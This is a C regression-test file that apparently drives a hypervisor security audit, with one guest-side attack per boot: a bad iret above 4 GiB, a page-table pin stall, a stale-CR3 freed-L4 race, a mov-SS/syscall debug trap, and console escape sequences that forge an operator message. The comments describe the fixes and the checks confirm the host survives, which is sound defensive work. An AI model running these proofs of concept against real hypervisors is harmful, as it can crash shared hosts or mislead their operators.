// SPDX-License-Identifier: MIT
/*
 * audit: hostile requests found beyond issue 10, one per boot, chosen with
 * "attack=NAME" on the command line. Each must leave the hypervisor up:
 * the guest either gets an error (or an exception) and reports DONE, or is
 * crashed alone. Lamina-only (HARNESS): Xen boots no domU here.
 *
 *   iret32   the iret hypercall to the 32-bit code selector with a return
 *            address above 4 GiB: on hardware the hypervisor's own iretq
 *            faulted (#GP in ring 0); QEMU's TCG let it through. Now the
 *            guest gets #GP, as for a non-canonical address.
 *   ptstall  pin an L4 over every free frame built as page tables: one
 *            hypercall validates millions of entries with interrupts off.
 *   stalecr3 (two CPUs) block so this CPU idles with our L4 in CR3, wake
 *            on the other CPU, switch to a new L4 and give the old one
 *            back: the idle CPU still walks the freed (then re-used,
 *            zeroed) frame for the hypervisor's own addresses.
 *   movss    a data breakpoint on the selector "mov %ss" loads, then
 *            syscall: the #DB the mov-SS shadow held back arrives on the
 *            first hypervisor instruction, still on the guest's stack, on
 *            hardware; QEMU's TCG raises it before the syscall (no test).
 *   escape   console output with terminal controls (ESC sequences, BEL,
 *            CR, backspace): the hypervisor copied them to the serial
 *            line as they came, so a domain could retitle, clear or
 *            overwrite what the operator reads there.
 *   heartbeat (not an attack: the victim) busy-loops for "secs=N" and
 *            reports the longest time it did not run; it must stay far
 *            below what a non-preemptible hypercall of another domain
 *            takes.
 */
#include <libpv/console.h>
#include <libpv/event.h>
#include <libpv/hypercall.h>
#include <libpv/libpv.h>
#include <libpv/mm.h>
#include <libpv/string.h>
#include <libpv/test.h>
#include <libpv/time.h>
#include <libpv/traps.h>
#include <xen/errno.h>
#include <xen/memory.h>
#include <xen/sched.h>
#include <xen/xen.h>

#define KERNEL_CS32_RPL0 (FLAT_RING3_CS32 & ~3)

static volatile unsigned long gp_seen, gp_rip;

/* The #GP an iret that cannot complete is delivered as: resume below. */
static int gp_hook(struct trap_frame *f)
{
	extern char iret32_resume[];

	gp_seen++;
	gp_rip = f->rip;
	f->rip = (uint64_t)iret32_resume;
	f->cs = FLAT_KERNEL_CS & ~3UL; /* back to 64-bit kernel code */
	return 1;
}

static void attack_iret32(void)
{
	trap_set_hook(TRAP_gp, gp_hook);
	info("iret to %#x:0x100000000", KERNEL_CS32_RPL0);
	asm volatile("movq %%rsp, %%rax\n\t"
		     "pushq %0\n\t" /* ss */
		     "pushq %%rax\n\t" /* rsp */
		     "pushq $0x202\n\t" /* rflags */
		     "pushq %1\n\t" /* cs */
		     "pushq %2\n\t" /* rip */
		     "pushq $0\n\t" /* flags */
		     "jmp hypercall_page + 23 * 32\n\t"
		     ".globl iret32_resume\n"
		     "iret32_resume:"
		     :
		     : "i"(FLAT_RING3_SS64), "i"(KERNEL_CS32_RPL0),
		       "r"(0x100000000UL)
		     : "rax", "rcx", "r11", "memory");
	CHECK("iret32_gp_delivered", gp_seen == 1, "seen %lu rip %#lx", gp_seen,
	      gp_rip);
}

#define PT_FLAGS (_PAGE_PRESENT | _PAGE_RW | _PAGE_ACCESSED | _PAGE_DIRTY)
#define FIRST_FREE_PFN 1024 /* past libpv's initial 4 MiB mapping */

/* Fill frame mfn with e(i) for each of its 512 entries, via a window. */
static void fill_frame(unsigned long window, unsigned long mfn,
		       pte_t (*e)(unsigned long arg, unsigned int i),
		       unsigned long arg)
{
	pte_t *t = (pte_t *)window;

	if (hyp_update_va_mapping(window,
				  ((uint64_t)mfn << PAGE_SHIFT) | PT_FLAGS,
				  UVMF_INVLPG))
		test_fatal("window map of %#lx refused", mfn);
	for (unsigned int i = 0; i < PT_ENTRIES; i++)
		t[i] = e(arg, i);
}

static pte_t l1_entry(unsigned long table, unsigned int i)
{
	/* Read-only mappings of the frames of the initial mapping. */
	unsigned long pfn = (table * PT_ENTRIES + i) % FIRST_FREE_PFN;

	return ((uint64_t)pfn_to_mfn(pfn) << PAGE_SHIFT) | _PAGE_PRESENT |
	       _PAGE_ACCESSED;
}

/* Table entries: pfn first + i, for pfns below table_limit. */
static unsigned long table_limit;

static pte_t table_entry(unsigned long first_pfn, unsigned int i)
{
	unsigned long k = first_pfn + i;

	return k < table_limit ?
		       ((uint64_t)pfn_to_mfn(k) << PAGE_SHIFT) | PT_FLAGS :
		       0;
}

static void attack_ptstall(void)
{
	unsigned long window = (unsigned long)page_alloc();
	unsigned long nr = start_info->nr_pages - FIRST_FREE_PFN;
	unsigned long l4 = FIRST_FREE_PFN, l3 = l4 + 1;
	unsigned long l2_base = l3 + 1, l1_base, nr_l1, nr_l2;
	uint64_t worst_pin = 0, worst_unpin = 0;

	nr_l2 = (nr - 2 + PT_ENTRIES) / (PT_ENTRIES + 1);
	l1_base = l2_base + nr_l2;
	nr_l1 = nr - 2 - nr_l2;
	if (nr_l1 > nr_l2 * PT_ENTRIES)
		nr_l1 = nr_l2 * PT_ENTRIES;
	info("building %lu L1s, %lu L2s", nr_l1, nr_l2);
	for (unsigned long i = 0; i < nr_l1; i++)
		fill_frame(window, pfn_to_mfn(l1_base + i), l1_entry, i);
	table_limit = l1_base + nr_l1;
	for (unsigned long k = 0; k < nr_l2; k++)
		fill_frame(window, pfn_to_mfn(l2_base + k), table_entry,
			   l1_base + k * PT_ENTRIES);
	table_limit = l2_base + nr_l2;
	fill_frame(window, pfn_to_mfn(l3), table_entry, l2_base);
	table_limit = l3 + 1; /* the L4's slot 0 only */
	fill_frame(window, pfn_to_mfn(l4), table_entry, l3);
	hyp_update_va_mapping(window, 0, UVMF_INVLPG);
	for (int round = 0; round < 4; round++) {
		uint64_t t0 = system_time_ns(), t1, t2;
		long rc = mmuext_one(MMUEXT_PIN_L4_TABLE, pfn_to_mfn(l4));

		t1 = system_time_ns();
		CHECK_EQ("ptstall_pin", rc, 0);
		rc = mmuext_one(MMUEXT_UNPIN_TABLE, pfn_to_mfn(l4));
		t2 = system_time_ns();
		CHECK_EQ("ptstall_unpin", rc, 0);
		if (t1 - t0 > worst_pin)
			worst_pin = t1 - t0;
		if (t2 - t1 > worst_unpin)
			worst_unpin = t2 - t1;
	}
	info("STALL pin %lu us unpin %lu us", (unsigned long)(worst_pin / 1000),
	     (unsigned long)(worst_unpin / 1000));
}

#define MS 1000000ULL

static void on_timer(evtchn_port_t port, void *data)
{
	(void)port, (void)data;
}

static long reservation(unsigned int cmd, xen_pfn_t *mfn)
{
	struct xen_memory_reservation r = { .nr_extents = 1,
					    .domid = DOMID_SELF };

	r.extent_start.p = mfn;
	return hyp_memory_op(cmd, &r);
}

/* A copy of the L4 in use becomes the base; the old one is given back. */
static void switch_and_free_l4(pte_t **l4)
{
	pte_t *old = *l4, *new = page_alloc();
	xen_pfn_t old_mfn = virt_to_mfn(old), got = 0;
	long rc;

	memcpy(new, old, PAGE_SIZE);
	if (page_set_writable(new, false) ||
	    mmuext_one(MMUEXT_NEW_BASEPTR, virt_to_mfn(new)))
		test_fatal("new base refused");
	*l4 = current_l4 = new;
	mmuext_one(MMUEXT_UNPIN_TABLE, old_mfn); /* the first one is pinned */
	/* Our own read-only mapping of it is a reference too. */
	hyp_update_va_mapping((unsigned long)old, 0, UVMF_INVLPG);
	rc = reservation(XENMEM_decrease_reservation, &old_mfn);
	CHECK_EQ("stalecr3_old_l4_given_back", rc, 1);
	/* Take a frame again: the allocator hands out the one just freed,
	 * zeroed. */
	rc = reservation(XENMEM_increase_reservation, &got);
	info("stalecr3 freed %#lx got %#lx (rc %ld)", (unsigned long)old_mfn,
	     (unsigned long)got, rc);
}

static void attack_escape(void)
{
	static const char evil[] =
		"escape: \x1b]0;owned\x07\x1b[2J\x1b[H"
		"\r(lamina) Domain 0 (control) shut down\b\b\n";

	console_write(evil, sizeof(evil) - 1);
	CHECK("escape_written", 1);
}

static volatile uint16_t ss_value = FLAT_RING3_SS64;

static void attack_movss(void)
{
	/* DR0 on ss_value (2 bytes, read/write), enabled locally. */
	uint64_t dr7 = 1 | (3UL << 16) | (1UL << 18);

	CHECK_EQ("movss_dr0", hyp_set_debugreg(0, (unsigned long)&ss_value), 0);
	CHECK_EQ("movss_dr7", hyp_set_debugreg(7, dr7), 0);
	info("mov ss then syscall (xen_version) on an unmapped stack");
	asm volatile("movq %%rsp, %%r12\n\t"
		     "movq $0x1000, %%rsp\n\t" /* nothing mapped there */
		     "movw %0, %%ss\n\t"
		     "syscall\n\t"
		     "movq %%r12, %%rsp"
		     :
		     : "m"(ss_value), "a"(__HYPERVISOR_xen_version), "D"(0),
		       "S"(0)
		     : "rcx", "r11", "r12", "memory");
	hyp_set_debugreg(7, 0);
	CHECK("movss_survived", 1);
}

static void attack_stalecr3(void)
{
	evtchn_port_t port;
	pte_t *l4 = current_l4;

	CHECK_EQ("bind_virq_timer", evtchn_bind_virq(VIRQ_TIMER, 0, &port), 0);
	evtchn_set_handler(port, on_timer, NULL);
	evtchn_unmask(port);
	for (int round = 0; round < 40; round++) {
		sleep_until(system_time_ns() +
			    3 * MS); /* maybe back on the other CPU */
		switch_and_free_l4(&l4);
		/* Keep the consoles busy: the boot CPU drains them. */
		for (int i = 0; i < 8; i++)
			info("stalecr3 round %d line %d ........................",
			     round, i);
	}
	sleep_until(system_time_ns() + 500 * MS);
	CHECK("stalecr3_survived", 1);
}
#define HEARTBEAT_MAX_GAP (250 * MS) /* slices are 30 ms */

static void heartbeat(void)
{
	uint64_t start = system_time_ns(), last = start, worst = 0;
	uint64_t secs = cmdline_number("secs=", 6);

	while (last - start < secs * 1000 * MS) {
		uint64_t now = system_time_ns();

		if (now - last > worst)
			worst = now - last;
		last = now;
	}
	info("HEARTBEAT max_gap_us %lu", (unsigned long)(worst / 1000));
	CHECK("heartbeat_gap", worst < HEARTBEAT_MAX_GAP, "%lu ms",
	      (unsigned long)(worst / MS));
}

void test_main(void)
{
	const char *cmd = (const char *)start_info->cmd_line;

	if (strstr(cmd, "attack=iret32"))
		attack_iret32();
	else if (strstr(cmd, "attack=stalecr3"))
		attack_stalecr3();
	else if (strstr(cmd, "attack=movss"))
		attack_movss();
	else if (strstr(cmd, "attack=escape"))
		attack_escape();
	else if (strstr(cmd, "attack=heartbeat"))
		heartbeat();
	else if (strstr(cmd, "attack=ptstall"))
		attack_ptstall();
	else
		CHECK("known_attack", 0, "cmdline '%s'", cmd);
}
